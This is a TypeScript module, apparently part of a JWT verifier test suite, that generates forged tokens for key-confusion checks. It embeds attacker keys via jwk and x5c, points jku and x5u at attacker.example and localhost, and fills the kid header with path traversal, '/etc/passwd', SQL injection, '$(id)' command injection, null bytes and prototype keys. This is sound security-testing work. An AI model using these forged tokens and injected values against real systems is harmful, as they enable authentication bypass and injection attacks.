import { generateKeyPairSync } from 'node:crypto';
import { forge, type Genuine, type Json, type Tokens } from './genuine.ts';

/** Keys that the token brings along or points to, and identifiers of keys that are none. */
export function keys(genuine: Genuine): Tokens {
  const { header, payload } = genuine;
  const own =
    genuine.alg === 'RS256'
      ? generateKeyPairSync('rsa', { modulusLength: 2048 })
      : generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const attacker = { alg: genuine.alg, key: own.privateKey };
  const jwk = own.publicKey.export({ format: 'jwk' });
  const x5c = [own.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')];
  const brought: Readonly<Record<string, Json>> = {
    'another key': {},
    jwk: { jwk },
    'jwk with the genuine kid': { jwk: { ...jwk, kid: header.kid } },
    jku: { jku: 'https://attacker.example/jwks.json' },
    'jku into this machine': { jku: 'http://127.0.0.1:1/jwks.json' },
    x5u: { x5u: 'https://attacker.example/chain.pem' },
    x5c: { x5c },
    'x5t and x5c': { x5c, x5t: 'AAAA', 'x5t#S256': 'AAAA' },
    'a kid of its own': { kid: 'attacker', jwk: { ...jwk, kid: 'attacker' } },
    'no kid': { kid: undefined, jwk },
  };
  const found: Record<string, string> = Object.fromEntries(
    Object.entries(brought).map(([name, more]) => [
      `signed by the attacker: ${name}`,
      forge(attacker, { ...header, ...more }, payload),
    ]),
  );
  const kids = [
    '',
    '../../../../dev/null',
    '/etc/passwd',
    '..%2f..%2fkeys',
    "' OR '1'='1",
    "x'; DROP TABLE signing_keys; --",
    '$(id)',
    'x\0',
    '__proto__',
    'constructor',
    'toString',
    'k'.repeat(2_000),
    7,
    null,
    true,
    [header.kid],
    { kid: header.kid },
    ...(genuine.otherKids ?? []),
  ];
  for (const kid of kids) {
    const name = JSON.stringify(kid).slice(0, 40);
    found[`kid ${name}`] = forge(genuine, { ...header, kid }, payload);
    found[`kid ${name}, signed by the attacker`] = forge(attacker, { ...header, kid }, payload);
  }
  return found;
}
